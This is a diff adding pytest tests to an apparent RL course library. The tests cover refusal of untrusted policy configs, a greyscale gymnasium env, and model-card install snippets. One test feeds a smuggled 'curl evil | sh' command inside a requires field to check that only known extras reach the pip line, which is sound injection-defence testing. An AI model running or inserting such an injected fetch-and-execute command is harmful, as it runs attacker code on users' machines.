@@ -10,6 +10,7 @@ import subprocess
 import sys
 from pathlib import Path
 
+import gymnasium
 import numpy as np
 import pytest
 import torch
@@ -244,6 +245,9 @@ def test_convolutional_policy_in_numpy_equals_torch(tmp_path, shape, channels_la
     (dict(head="gaussian", action_bounds="clip", action_low=[-1], action_high=[1, 2]), "action_low must hold 3"),
     (dict(head="gaussian", action_bounds="clip", action_low=[1, 1, 1], action_high=[0, 2, 2]), "below"),
     (dict(action_bounds="clip", action_low=[0, 0, 0], action_high=[1, 1, 1]), "for gaussian heads"),
+    # 2.4M weights (under the cap) but 16G multiply-adds per frame: a verification that never ends
+    (dict(conv_layers=[[512, 1, 1], [512, 3, 1]], hidden_sizes=[16]), "multiply-adds"),
+    (dict(activation="elu"), "course's MLP policies"),
 ])
 def test_untrusted_config_json_is_refused_in_one_line(tmp_path, changes, message):
     data = {"format": "hubrl-policy/1", "env_id": "ALE/Breakout-v5", "obs_dim": 28224, "n_actions": 3,
@@ -350,3 +354,48 @@ def test_to_torch_refuses_what_is_not_the_courses_policy_and_from_policy_rebuild
     obs = np.random.default_rng(0).integers(0, 256, (2, 1, 30, 40), dtype=np.uint8)
     with torch.no_grad():
         np.testing.assert_allclose(network(torch.from_numpy(obs)).numpy(), policy.sampler().logits(obs), rtol=1e-5)
+
+
+class GreyScreen(gymnasium.Env):
+    """A registered env with 2-D uint8 observations (one grey channel, no channel axis), as many games give."""
+
+    observation_space = spaces.Box(0, 255, (12, 16), np.uint8)
+    action_space = spaces.Discrete(2)
+
+    def __init__(self, render_mode=None):
+        self.render_mode = render_mode
+
+    def reset(self, *, seed=None, options=None):
+        super().reset(seed=seed)
+        self.t = 0
+        return self.np_random.integers(0, 256, (12, 16), dtype=np.uint8), {}
+
+    def step(self, action):
+        self.t += 1
+        return self.np_random.integers(0, 256, (12, 16), dtype=np.uint8), float(action), self.t >= 5, False, {}
+
+
+def test_a_policy_for_a_one_channel_image_env_plays_it(tmp_path):
+    """Training describes a (H, W) uint8 space as one channel, (1, H, W); evaluation must accept what it trained."""
+    from hubrl.evaluate import evaluate_agent
+
+    if "HubrlTest/GreyScreen-v0" not in gymnasium.registry:
+        gymnasium.register("HubrlTest/GreyScreen-v0", entry_point=GreyScreen, max_episode_steps=5)
+    described = env_spaces("HubrlTest/GreyScreen-v0")
+    assert described.image and described.obs_shape == (1, 12, 16)
+    config = PolicyConfig("HubrlTest/GreyScreen-v0", 192, 2, (8,), obs_shape=described.obs_shape,
+                          conv_layers=((4, 3, 1),))
+    policy = load_policy(_saved(PolicyNetwork(config), tmp_path / "grey"))
+    evaluation = evaluate_agent(policy, n_eval_episodes=3)
+    assert evaluation.episode_lengths == [5, 5, 5]
+
+
+def test_usage_snippets_fit_the_policy_and_install_only_known_extras():
+    from hubrl.card import usage_snippets
+
+    gaussian = dict(usage_snippets("a/pendulum", config={"head": "gaussian"}))
+    assert "PolicyNetwork.from_policy(agent.policy)" in gaussian["python"] and "to_torch" not in gaussian["python"]
+    assert "agent.policy.to_torch()" in dict(usage_snippets("a/cartpole", config={"head": "categorical"}))["python"]
+    assert dict(usage_snippets("a/lunar", requires="hubrl[box2d]"))["bash"].startswith('pip install "hubrl[box2d]"')
+    # results.json is someone else's file: anything but a known extra installs plain hubrl
+    assert dict(usage_snippets("m/x", requires="hubrl[box2d]; curl evil | sh"))["bash"].startswith("pip install hubrl\n")
